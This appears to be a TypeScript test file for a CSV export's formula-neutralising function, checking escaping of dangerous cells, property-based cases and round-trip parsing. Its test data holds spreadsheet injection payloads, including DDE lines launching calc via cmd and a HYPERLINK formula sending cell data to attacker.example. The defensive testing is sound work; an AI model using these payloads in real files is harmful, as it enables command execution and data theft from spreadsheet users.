import { parse as parseWithCsvParse } from 'csv-parse/sync';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutralizeFormulas, writeCsv } from './csv.ts';
import { csvSeparators } from './csv-separator.ts';

const parsers = {
  papaparse: (text: string, delimiter = ',') =>
    Papa.parse<string[]>(text, { delimiter, newline: '\r\n', skipEmptyLines: false }).data.slice(0, -1),
  'csv-parse': (text: string, delimiter = ',') =>
    parseWithCsvParse(text, { delimiter, record_delimiter: '\r\n', relax_column_count: true }) as string[][],
};

const dangerousTexts: readonly (readonly [why: string, text: string, safe?: string])[] = [
  ['equals', '=1+1', "'=1+1"],
  ['plus', '+1+1', "'+1+1"],
  ['minus', '-1+1', "'-1+1"],
  ['at', '@SUM(A1)', "'@SUM(A1)"],
  ['at and a command', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['at and a name that is called', '@lti_17(1)'],
  ['at and another program', '@excel_x|y!z'],
  ['at and a command with the end of a name', '@cmd|x_1'],
  ['at and a command with the end of a longer name', '@cmd|x:12345678'],
  ['at and another workbook', '@[book_1]x!A1'],
  ['at and a calculation', '@lti_17+1'],
  ['at and a cell', '@A1', "'@A1"],
  ['at and a cell of a wide sheet', '@LTI17', "'@LTI17"],
  ['at and cells', '@A1:B2', "'@A1:B2"],
  ['at and a cell by numbers', '@R1C1:R2C2', "'@R1C1:R2C2"],
  ['only at', '@', "'@"],
  ['a blank and a name with at', ' @lti_17', "' @lti_17"],
  ['a name with at in a line within', 'a\n@lti_17', "a\n'@lti_17"],
  ['a name with at and a line', '@lti_17\n=1', "'@lti_17\n'=1"],
  ['a link', '=HYPERLINK("http://attacker.example/?x="&A1,"open")'],
  ['a command', "=cmd|' /C calc'!A0"],
  ['a command behind a number', '-2+3+cmd|"/C calc"!A0'],
  ['a tab', '\tx', "'\tx"],
  ['a carriage return', '\rx', "'\rx"],
  ['a line feed', '\nx', "'\nx"],
  ['NUL', '\0x', "'\0x"],
  ['a tab and equals', '\t=1', "'\t'=1"],
  ['NUL and equals', '\0=1', "'\0=1"],
  ['a blank', ' =1', "' =1"],
  ['blanks', '   @x', "'   @x"],
  ['a blank that does not break', '\u00A0=1', "'\u00A0=1"],
  ['several kinds of blanks', '\u2003\u00A0\u3000 +1', "'\u2003\u00A0\u3000 +1"],
  ['a byte order mark', '\uFEFF=1', "'\uFEFF=1"],
  ['a blank of no width', '\u200B=1', "'\u200B=1"],
  ['a direction mark', '\u202E=1', "'\u202E=1"],
  ['a vertical tab', '\v=1', "'\v=1"],
  ['a form feed', '\f-1', "'\f-1"],
  ['an escape', '\u001B=1', "'\u001B=1"],
  ['full-width equals', '\uFF1D1', "'\uFF1D1"],
  ['full-width plus', '\uFF0B1', "'\uFF0B1"],
  ['full-width minus', '\uFF0D1', "'\uFF0D1"],
  ['full-width at', '\uFF20x', "'\uFF20x"],
  ['a line within', 'a\n=1', "a\n'=1"],
  ['a line within, old Macintosh', 'a\r=1', "a\r'=1"],
  ['a line within, Windows', 'a\r\n=1', "a\r\n'=1"],
  ['a line within, behind blanks', 'a\n \u00A0=1', "a\n' \u00A0=1"],
  ['a tab at the start of a line within', 'a\n\tb', "a\n'\tb"],
  ['NUL at the start of a line within', 'a\n\0b', "a\n'\0b"],
  ['two lines within', 'a\n=1\n@b', "a\n'=1\n'@b"],
  ['an empty line before', 'a\n\n=1', "a\n\n'=1"],
  ['the other separator', 'a;=1', "a;'=1"],
  ['the other separator and a blank', 'a; @x', "a;' @x"],
  ['a tab within', 'a\t=1', "a\t'=1"],
  ['only the sign', '=', "'="],
  ['a quoted formula', '="x"', '\'="x"'],
  ['an address', '=1+1@mail.example', "'=1+1@mail.example"],
];

const dangerous = dangerousTexts.map(([why, text, safe]) => [why, text, safe ?? `'${text}`] as const);

const harmless = [
  '',
  'mia',
  'mia@mail.example',
  'a=b',
  "it's",
  '1-2',
  'a, -b',
  '100%25',
  'Ältere Karten',
  '😀',
  '"',
  '@lti_17',
  '@google_118273645019283746501',
  '@lti13_17',
  '@lti13:9f8e7d6c5b4a',
  '@lti:9f8e7d6c5b4a39281706f5e4d3c2b1a0@canvas.northwind.example',
  '@maria.müller-lopez',
  '@museum.example',
];

/** After '@', a function or a command needs one of these, and a cell reference is short. */
const isName = (part: string) => /^@[^\s()[\]{}|!=+*/^&%<>,;'"$]{4,}$/u.test(part);

const runs = (cell: string, separators = /\r\n|[\r\n\t;]/) =>
  cell
    .split(separators)
    .some((part) => /^[\p{Z}\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(part) && !isName(part));

describe('formulas in a cell (T31)', () => {
  it.each(dangerous)('are made harmless behind %s', (_, text, safe) => {
    expect(neutralizeFormulas(text)).toBe(safe);
    expect(runs(neutralizeFormulas(text))).toBe(false);
  });

  it.each(harmless)('are not seen in %j', (text) => {
    expect(neutralizeFormulas(text)).toBe(text);
  });

  it('never survive in any text', () => {
    const pieces = fc.constantFrom(...'=+-@;,"\' \t\r\n\0\u00A0\uFEFF\u200Bax1'.split(''));
    fc.assert(
      fc.property(fc.string({ unit: pieces }), (text) => !runs(neutralizeFormulas(text))),
      { numRuns: 5000 },
    );
  });

  it.each([';', '\t'] as const)('never survive in a file with %j that is read with commas', (separator) => {
    const pieces = fc.constantFrom(...'=+-@;,"\' \t\nax1'.split(''));
    fc.assert(
      fc.property(
        fc.string({ unit: pieces }),
        (text) => !runs(neutralizeFormulas(text, separator), /[\r\n\t;,]/),
      ),
      { numRuns: 1000 },
    );
  });

  it('take time in proportion to the text', () => {
    const text = `${'\u00A0'.repeat(200_000)}x\n${' '.repeat(200_000)}x`;
    expect(neutralizeFormulas(text)).toBe(text);
  });
});

describe('a CSV text', () => {
  it('separates cells by commas and ends every row with a line end (RFC 4180)', () => {
    expect(
      writeCsv([
        ['name', 'seats'],
        ['mia', 3],
      ]),
    ).toBe('name,seats\r\nmia,3\r\n');
  });

  it('quotes what would be misread and doubles quotes', () => {
    expect(writeCsv([['a,b', 'say "hi"', 'two\nlines', ' padded ', 'a;b']])).toBe(
      '"a,b","say ""hi""","two\nlines"," padded ","a;b"\r\n',
    );
  });

  it('leaves numbers as numbers, also negative ones, and nothing as an empty cell', () => {
    expect(writeCsv([[-5, 0.25, Number.NaN, null, undefined, true]])).toBe('-5,0.25,,,,true\r\n');
  });

  it('begins with a byte order mark on request', () => {
    expect(writeCsv([['Ältere Karten']], { hasByteOrderMark: true })).toBe('\uFEFFÄltere Karten\r\n');
  });

  it.each(Object.entries(parsers))('is read back by %s as it was written', (_, parse) => {
    const rows = [...dangerous.map(([, text]) => text), ...harmless.slice(1)].map((text) => [
      'start',
      text,
      'end',
    ]);
    expect(parse(writeCsv(rows))).toEqual(
      rows.map(([start = '', text = '', end = '']) => [start, neutralizeFormulas(text), end]),
    );
  });

  it('separates by a semicolon or a tab on request', () => {
    const rows = [
      ['name', 'a;b', 'c,d'],
      ['mia', 0.25, 'e,=1'],
    ];
    expect(writeCsv(rows, { separator: ';' })).toBe('name;"a;b";"c,d"\r\nmia;0.25;"e,\'=1"\r\n');
    expect(writeCsv(rows, { separator: '\t' })).toBe('name\t"a;b"\t"c,d"\r\nmia\t0.25\t"e,\'=1"\r\n');
  });

  it.each(Object.entries(parsers))('is read back by %s with any content', (_, parse) => {
    const cell = fc.string({ unit: fc.constantFrom(...'ab,;"\'=\r\n\t '.split('')), minLength: 1 });
    fc.assert(
      fc.property(
        fc.array(fc.tuple(cell, cell), { minLength: 1 }),
        fc.constantFrom(...csvSeparators),
        (rows, separator) => {
          expect(parse(writeCsv(rows, { separator }), separator)).toEqual(
            rows.map((row) => row.map((text) => neutralizeFormulas(text, separator))),
          );
        },
      ),
      { numRuns: 1000 },
    );
  });
});
